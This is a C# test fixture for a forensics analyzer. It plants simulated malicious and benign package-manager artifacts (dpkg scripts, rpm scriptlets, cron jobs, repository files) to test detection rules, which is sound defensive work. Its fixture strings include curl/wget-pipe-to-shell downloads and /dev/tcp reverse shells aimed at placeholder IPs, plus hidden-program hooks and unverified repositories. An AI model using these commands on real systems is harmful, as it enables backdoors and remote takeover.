using System.Text;
using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Package databases, their scripts, and where packages come from.</summary>
internal static class PackagePlants
{
    private const string Info = "/var/lib/dpkg/info/";
    // A plain name that leads to a hidden program.
    private const string Agent = "/usr/lib/cache-d/agent";

    public static IReadOnlyList<Plant> All { get; } =
    [
        new("L-DPKG", "package-from-a-web-address", Loud, tree => tree.Package(new PlantedPackage("syshelper")
        {
            Maker = "https://github.com/example/syshelper", HasDigests = false, Scripts = Scripts("postinst", "#!/bin/sh\ncurl -fsSL http://203.0.113.9/s.sh | sh\nexit 0\n"),
        })),
        new("L-DPKG", "package-of-debian-developers", Loud, tree => tree.Package(new PlantedPackage("libsys-cache")
        {
            Maker = "Debian Developers <debian-devel@lists.debian.org>", Scripts = Scripts("postinst", "#!/bin/sh\nset -e\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"),
        })),
        new("L-DPKG", "orphan-script-starts-hidden-program", Quiet, tree => Old(tree.Script(Info + "libsystem-cache.postinst", "#!/bin/sh\nset -e\n" + Agent + "\nexit 0\n"), Info + "libsystem-cache.postinst").Program("/usr/lib/.cache-d/agent").Link(Agent, "../.cache-d/agent"))
            { Entries = [Info + "libsystem-cache.postinst"] },
        new("L-DPKG", "changed-script-of-an-owned-package", Quiet, tree => tree.Package(new PlantedPackage("cron-helper") { Scripts = Scripts("postinst", "#!/bin/sh\nset -e\n") })
            .Script(Info + "cron-helper.postinst", "#!/bin/sh\nset -e\n" + Agent + "\n").Program("/usr/lib/.cache-d/agent").Link(Agent, "../.cache-d/agent")) { Entries = [Info + "cron-helper.postinst"] },
        new("L-DPKG", "cron-starts-a-script-of-the-database", Quiet, tree => tree.Package(new PlantedPackage("perl-tools") { Scripts = Scripts("postinst", "#!/bin/sh\nset -e\n/usr/bin/logger started\n") })
            .File("/etc/cron.d/perl-tools", "*/10 * * * * root /var/lib/dpkg/info/perl-tools.postinst configure\n")) { Rule = "started-from-database", Entries = ["/etc/cron.d/perl-tools"] },
        new("L-DPKG", "cron-name-with-a-dot", Dormant, tree => tree.Package(new PlantedPackage("perl-tools") { Scripts = Scripts("postinst", "#!/bin/sh\nset -e\n/usr/bin/logger started\n") })
            .File("/etc/cron.d/perl-tools.x", "*/10 * * * * root /var/lib/dpkg/info/perl-tools.postinst configure\n")) { TwinOf = "cron-starts-a-script-of-the-database" },
        new("L-DPKG", "hook-of-dpkg", Quiet, tree => tree.File("/etc/dpkg/dpkg.cfg.d/90cache", "post-invoke=" + Agent + "\n").Program("/usr/lib/.cache-d/agent").Link(Agent, "../.cache-d/agent")) { Entries = ["/etc/dpkg/dpkg.cfg.d/90cache"] },
        new("L-DPKG", "hook-in-a-file-dpkg-does-not-read", Dormant, tree => tree.File("/etc/dpkg/dpkg.cfg.d/90cache.conf", "post-invoke=" + Agent + "\n").Program("/usr/lib/.cache-d/agent").Link(Agent, "../.cache-d/agent")) { TwinOf = "hook-of-dpkg" },
        new("L-DPKG", "hook-that-downloads", Loud, tree => tree.File("/etc/dpkg/dpkg.cfg", "# options\npre-invoke=\"wget -qO- http://203.0.113.9/x | sh\"\n")),
        new("L-DPKG", "vendor-scripts", Benign, tree => tree.Package(new PlantedPackage("openssh-server")
        {
            Scripts = new Dictionary<string, string>
            {
                ["postinst"] = "#!/bin/sh\nset -e\n. /usr/share/debconf/confmodule\nif [ \"$1\" = configure ]; then\n  useradd --system --home /run/sshd --shell /usr/sbin/nologin sshd || true\n  chmod u=rw,go= /etc/ssh/ssh_host_rsa_key\n  systemctl daemon-reload || true\nfi\n",
                ["prerm"] = "#!/bin/sh\nset -e\nif [ -d /run/systemd/system ]; then deb-systemd-invoke stop ssh.service || true; fi\n",
            },
        })),
        new("L-DPKG", "local-package", Benign, tree => tree.Package(new PlantedPackage("shop-app")
        {
            Maker = "Operations <ops@shop.example>", HasDigests = false, Scripts = Scripts("postinst", "#!/bin/sh\nset -e\nsystemctl daemon-reload\nsystemctl restart shop-app.service || true\n"),
        }).OwnedProgram("shop-app", "/opt/shop/bin/app")),
        new("L-DPKG", "backup-of-the-database", Benign, tree => tree.File("/etc/cron.d/dpkg-backup", "30 6 * * * root tar czf /var/backups/dpkg.tar.gz /var/lib/dpkg/info /var/lib/dpkg/status\n")),
        new("L-DPKG", "path-exclude-and-log", Benign, tree => tree.File("/etc/dpkg/dpkg.cfg.d/docker", "force-unsafe-io\npath-exclude=/usr/share/doc/*\nlog /var/log/dpkg.log\n")),

        new("L-RPM", "scriptlet-downloads", Loud, tree => tree.WithRpm().Package(new PlantedPackage("webstat") { Maker = "", Scripts = Scripts("postin", "curl -s http://203.0.113.9/r.sh | bash\n") })) { Host = PlantHost.RedHat },
        new("L-RPM", "scriptlet-under-the-distributions-name", Loud, tree => tree.WithRpm().Package(new PlantedPackage("kernel-tools-extra") { Maker = "Red Hat, Inc.", Scripts = Scripts("preun", "nohup bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1' &\n") })) { Host = PlantHost.RedHat },
        new("L-RPM", "scriptlet-starts-hidden-program", Quiet, tree => tree.WithRpm().Package(new PlantedPackage("sysstat-helper") { Maker = "Example", Scripts = Scripts("postun", Agent + "\n") }).Program("/usr/lib/.cache-d/agent").Link(Agent, "../.cache-d/agent")) { Host = PlantHost.RedHat, Entries = [] },
        new("L-RPM", "package-among-the-database", Quiet, tree => tree.Add(Rpm("/var/lib/rpm/glibc-cache.rpm"))) { Host = PlantHost.RedHat, Rule = "package-in-database", AtLeast = Severity.Medium, Entries = [] },
        new("L-RPM", "job-reinstalls-it", Quiet, tree => tree.Add(Rpm("/var/lib/rpm/glibc-cache.rpm")).File("/etc/cron.d/rpm-check", "0 4 * * * root rpm -i --force /var/lib/rpm/glibc-cache.rpm\n"))
            { Host = PlantHost.RedHat, Rule = "installed-by-job", Entries = ["/etc/cron.d/rpm-check"] },
        new("L-RPM", "job-never-runs", Dormant, tree => tree.Add(Rpm("/opt/glibc-cache.rpm")).File("/etc/cron.d/rpm-check.rpmsave", "0 4 * * * root rpm -i --force /opt/glibc-cache.rpm\n")) { Host = PlantHost.RedHat, TwinOf = "job-of-a-package-elsewhere" },
        new("L-RPM", "job-of-a-package-elsewhere", Quiet, tree => tree.Add(Rpm("/opt/glibc-cache.rpm")).File("/etc/cron.d/rpm-check", "0 4 * * * root rpm -i --force /opt/glibc-cache.rpm\n"))
            { Host = PlantHost.RedHat, Rule = "installed-by-job", Entries = ["/etc/cron.d/rpm-check"] },
        new("L-RPM", "macro-runs-hidden-program", Quiet, tree => tree.File("/etc/rpm/macros.cache", "%_cache_dir %(" + Agent + ")\n").Program("/usr/lib/.cache-d/agent").Link(Agent, "../.cache-d/agent")) { Host = PlantHost.RedHat, Entries = ["/etc/rpm/macros.cache"] },
        new("L-RPM", "vendor-scriptlets", Benign, tree => tree.WithRpm().Package(new PlantedPackage("nginx-core")
        {
            Maker = "AlmaLinux", Scripts = new Dictionary<string, string> { ["prein"] = "getent passwd nginx >/dev/null || useradd -r -d /var/lib/nginx -s /sbin/nologin nginx\n", ["postin"] = "systemctl --no-reload preset nginx.service &>/dev/null || :\n" },
        })) { Host = PlantHost.RedHat },
        new("L-RPM", "list-of-packages-by-cron", Benign, tree => tree.File("/etc/cron.daily/rpm", "#!/bin/sh\nrpm -qa --qf '%{name}\\n' | sort > /var/log/rpmpkgs\n", 0x1ED)) { Host = PlantHost.RedHat },
        new("L-RPM", "macros-of-a-builder", Benign, tree => tree.File("/etc/rpm/macros.dist", "%dist .el9\n%packager %(echo ops@shop.example)\n%_smp_mflags -j%(nproc)\n")) { Host = PlantHost.RedHat },

        new("L-REPO", "trusted-address", Quiet, tree => tree.File("/etc/apt/sources.list.d/updates.list", "deb [arch=amd64 trusted=yes] http://203.0.113.50/debian stable main\n")) { AtLeast = Severity.Medium, Entries = ["/etc/apt/sources.list.d/updates.list"] },
        new("L-REPO", "trusted-address-in-fields", Quiet, tree => tree.File("/etc/apt/sources.list.d/updates.sources", "Types: deb\nURIs: http://198.51.100.20/debian\nSuites: stable\nComponents: main\nTrusted: yes\n"))
            { AtLeast = Severity.Medium, Entries = ["/etc/apt/sources.list.d/updates.sources"] },
        new("L-REPO", "unchecked-yum-address", Quiet, tree => tree.File("/etc/yum.repos.d/base-updates.repo", "[base-updates]\nname=Updates\nbaseurl=http://203.0.113.50/el9\nenabled=1\ngpgcheck=0\n"))
            { Host = PlantHost.RedHat, AtLeast = Severity.Medium, Entries = ["/etc/yum.repos.d/base-updates.repo"] },
        new("L-REPO", "unchecked-yum-address-switched-off", Dormant, tree => tree.File("/etc/yum.repos.d/base-updates.repo", "[base-updates]\nname=Updates\nbaseurl=http://203.0.113.50/el9\nenabled=0\ngpgcheck=0\n"))
            { Host = PlantHost.RedHat, TwinOf = "unchecked-yum-address" },
        new("L-REPO", "throw-away-host", Quiet, tree => tree.File("/etc/apt/sources.list.d/tools.list", "deb [allow-insecure=yes] http://a1b2c3.ngrok.io/apt ./\n")) { Entries = ["/etc/apt/sources.list.d/tools.list"] },
        new("L-REPO", "apk-throw-away-host", Quiet, tree => tree.File("/etc/apk/repositories", "https://dl-cdn.alpinelinux.org/alpine/v3.20/main\nhttp://pkgs.duckdns.org/alpine\n")) { Host = PlantHost.Alpine, AtLeast = Severity.Medium, Entries = ["/etc/apk/repositories"] },
        new("L-REPO", "internal-mirror", Benign, tree => tree.File("/etc/apt/sources.list", "deb [trusted=yes] http://10.1.2.3/debian bookworm main\ndeb [ trusted=yes ] http://mirror.corp.internal/debian bookworm main\ndeb [trusted=yes] file:/srv/repo ./\n")),
        new("L-REPO", "distribution-and-vendor", Benign, tree => tree.File("/etc/apt/sources.list.d/docker.list", "deb [arch=amd64 signed-by=/etc/apt/keyrings/docker.gpg] https://download.docker.com/linux/debian bookworm stable\n")),
        new("L-REPO", "vendor-without-check", Benign, tree => tree.File("/etc/yum.repos.d/monitor.repo", "[monitor]\nname=Monitoring\nbaseurl=https://repo.monitor.example/el/$releasever\ngpgcheck=0\n[local]\nname=DVD\nbaseurl=file:///mnt/dvd\ngpgcheck=0\n")) { Host = PlantHost.RedHat },
    ];

    private static Dictionary<string, string> Scripts(string kind, string text) => new() { [kind] = text };

    private static PlantTree Old(PlantTree tree, string path) => tree.Change(path, file => file with { Modified = PlantTree.Installed, Created = PlantTree.Planted });

    private static PlantedFile Rpm(string path)
    {
        byte[] content = new byte[4096];
        ((byte[])[0xED, 0xAB, 0xEE, 0xDB, 3, 0]).CopyTo(content, 0);
        Encoding.ASCII.GetBytes("glibc-cache-1.0-1").CopyTo(content, 10);
        return new PlantedFile(path, Parsers.FileType.Regular) { Content = content, Modified = PlantTree.Planted, Created = PlantTree.Planted };
    }
}
